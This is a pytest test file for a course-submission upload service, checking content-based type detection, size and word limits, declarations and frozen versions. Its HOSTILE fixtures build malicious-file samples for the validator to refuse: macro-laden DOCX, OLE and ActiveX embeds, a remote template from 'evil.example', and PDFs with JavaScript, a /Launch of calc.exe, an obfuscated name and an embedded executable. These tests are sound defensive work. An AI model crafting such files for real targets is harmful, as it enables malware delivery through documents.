"""Submitting versions: files checked by content, hostile files refused with a message and nothing
saved, word limits, the declaration, and versions frozen once submitted."""

import pytest

from courses.practice import services
from courses.practice.models import FrozenError, PracticeEvent, Submission, SubmissionVersion
from tests.factories import practice as f

pytestmark = pytest.mark.django_db


def _submit(world, data, name="report.pdf", **extra):
    extra.setdefault("declaration_signed", True)
    return services.version_submit(
        assignment=world.assignment, trainee=world.trainee, report=f.upload(data, name), **extra
    )


def _stored_files(root):
    return [path for path in root.rglob("*") if path.is_file()] if root.exists() else []


def test_a_pdf_and_a_docx_are_accepted_by_content_each_version_kept(world, _practice_storage):
    first = _submit(world, f.pdf_bytes("技术转移报告"))
    # A DOCX named .pdf is a DOCX: what the bytes are decides, not the name.
    second = _submit(world, f.docx_bytes("第二版 report"), name="report-v2.pdf")
    assert (first.number, first.kind, first.content_type) == (1, "pdf", "application/pdf")
    assert (second.number, second.kind) == (2, "docx")
    assert second.file.name.endswith(".docx") and "report-v2" not in second.file.name
    assert first.word_count == 6 and len(first.sha256) == 64 and first.frozen
    assert first.declaration_text == services.DECLARATION_TEXT and first.declaration_signed_at
    assert Submission.objects.get().code.startswith("P-")
    assert len(_stored_files(_practice_storage)) == 2
    assert PracticeEvent.objects.filter(action="version_submitted").count() == 2


HOSTILE = [
    ("an .exe renamed .pdf", lambda: b"MZ\x90\x00" + b"\x00" * 200, "report.pdf", "wrong_type"),
    ("a .docm renamed .docx", lambda: f.docx_bytes(main=f.DOCM_MAIN), "report.docx", "macros"),
    (
        "a DOCX with vbaProject.bin",
        lambda: f.docx_bytes(extra_parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
        "report.docx",
        "macros",
    ),
    (
        "a DOCX with an embedded OLE object",
        lambda: f.docx_bytes(extra_parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
        "report.docx",
        "embedded_objects",
    ),
    (
        "a DOCX with an ActiveX control",
        lambda: f.docx_bytes(extra_parts={"word/activeX/activeX1.xml": b"<ax/>"}),
        "report.docx",
        "embedded_objects",
    ),
    (
        "a DOCX fetching a remote template",
        lambda: f.docx_bytes(
            document_rels='<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
        ),
        "report.docx",
        "external_relationship",
    ),
    ("a zip that is no Word document", lambda: _zip({"a.txt": b"hello"}), "report.docx", "wrong_type"),
    (
        "a PDF with /JavaScript on opening",
        lambda: f.pdf_with("OpenAction {action}"),
        "report.pdf",
        "active_content",
    ),
    (
        "a PDF with a /Launch action",
        lambda: f.pdf_with("AA << /O << /S /Launch /F (calc.exe) >> >>"),
        "report.pdf",
        "active_content",
    ),
    (
        "a PDF with a hex-escaped /J#61vaScript name",
        lambda: f.pdf_with("Names << /J#61vaScript {action} >>"),
        "report.pdf",
        "active_content",
    ),
    ("a PDF with an embedded file", lambda: _pdf_with_embedded_file(), "report.pdf", "active_content"),
    ("an empty file", lambda: b"", "report.pdf", "empty"),
    ("a truncated PDF", lambda: b"%PDF-1.7\n%garbage", "report.pdf", "unreadable"),
]


def _zip(parts):
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _pdf_with_embedded_file():
    import pymupdf

    document = pymupdf.open()
    document.new_page()
    document.embfile_add("payload.exe", b"MZ payload")
    return document.tobytes(use_objstms=1)


@pytest.mark.parametrize(("label", "make", "name", "code"), HOSTILE, ids=[row[0] for row in HOSTILE])
def test_hostile_uploads_are_refused_with_a_message_and_nothing_saved(
    world, _practice_storage, label, make, name, code
):
    data = make()
    with pytest.raises(services.PracticeError) as refused:
        _submit(world, data, name=name)
    assert refused.value.code == code, label
    assert refused.value.message
    assert not Submission.objects.exists() and not SubmissionVersion.objects.exists()
    assert not PracticeEvent.objects.exists()
    assert _stored_files(_practice_storage) == []


def test_a_hostile_attachment_refuses_the_whole_version(world, _practice_storage):
    with pytest.raises(services.PracticeError) as refused:
        _submit(world, f.pdf_bytes(), attachments=[f.upload(f.docx_bytes(main=f.DOCM_MAIN), "data.docx")])
    assert refused.value.code == "macros"
    assert not SubmissionVersion.objects.exists() and _stored_files(_practice_storage) == []


def test_an_oversized_file_is_refused_before_it_is_read(world, _practice_storage):
    world.assignment.max_file_mb = 1
    world.assignment.save()

    class Huge:
        name = "report.pdf"
        size = 5 * 1024 * 1024

        def seek(self, position):
            pass

        def read(self, *args):
            raise AssertionError("an oversized upload must not be read")

    with pytest.raises(services.PracticeError) as refused:
        services.version_submit(
            assignment=world.assignment, trainee=world.trainee, report=Huge(), declaration_signed=True
        )
    assert refused.value.code == "too_large" and "1 MB" in refused.value.message
    # A size that lies is caught while reading (never more than the limit and a byte).
    lying = f.upload(f.pdf_bytes() + b"%" * (2 * 1024 * 1024))
    lying.size = 10
    with pytest.raises(services.PracticeError, match="1 MB"):
        services.version_submit(
            assignment=world.assignment, trainee=world.trainee, report=lying, declaration_signed=True
        )
    assert not SubmissionVersion.objects.exists()


def test_a_pdf_opening_at_its_first_page_is_no_action(world):
    """LibreOffice writes /OpenAction [page /XYZ …]: a destination, not an action."""
    import pymupdf

    document = pymupdf.open()
    page = document.new_page()
    page.insert_text((72, 72), "report")
    document.xref_set_key(document.pdf_catalog(), "OpenAction", f"[{page.xref} 0 R /XYZ null null 0]")
    assert _submit(world, document.tobytes()).kind == "pdf"


def test_a_docx_kind_not_accepted_by_the_assignment_is_refused(world):
    world.assignment.accept_docx = False
    world.assignment.save()
    with pytest.raises(services.PracticeError) as refused:
        _submit(world, f.docx_bytes(), name="report.pdf")
    assert refused.value.code == "kind_not_allowed"


def test_word_limits_count_chinese_characters_and_words(world):
    world.assignment.word_min = 20
    world.assignment.word_max = 40
    world.assignment.save()
    with pytest.raises(services.PracticeError, match="6") as refused:
        _submit(world, f.pdf_bytes("技术转移报告"))
    assert refused.value.code == "too_few_words"
    with pytest.raises(services.PracticeError) as refused:
        _submit(world, f.pdf_bytes("技术转移报告", words=50))
    assert refused.value.code == "too_many_words"
    assert _submit(world, f.pdf_bytes("技术转移报告", words=20)).word_count == 26


def test_the_declaration_must_be_signed(world):
    with pytest.raises(services.PracticeError) as refused:
        _submit(world, f.pdf_bytes(), declaration_signed=False)
    assert refused.value.code == "declaration_required" and not SubmissionVersion.objects.exists()


def test_a_submitted_version_is_frozen(world):
    version = _submit(world, f.pdf_bytes())
    version.word_count = 99999
    with pytest.raises(FrozenError):
        version.save()
    with pytest.raises(FrozenError):
        version.delete()
    version.refresh_from_db()
    assert version.word_count == 6


def test_no_version_once_reviewers_have_it(world):
    from django.utils import timezone

    _submit(world, f.pdf_bytes())
    submission = Submission.objects.get()
    services.submission_assign_reviewers(
        submission=submission,
        actor=world.registrar,
        now=world.assignment.due_at + timezone.timedelta(minutes=1),
    )
    with pytest.raises(services.PracticeError) as refused:
        _submit(world, f.pdf_bytes("第二版"))
    assert refused.value.code in ("in_review", "closed")
    assert submission.versions.count() == 1
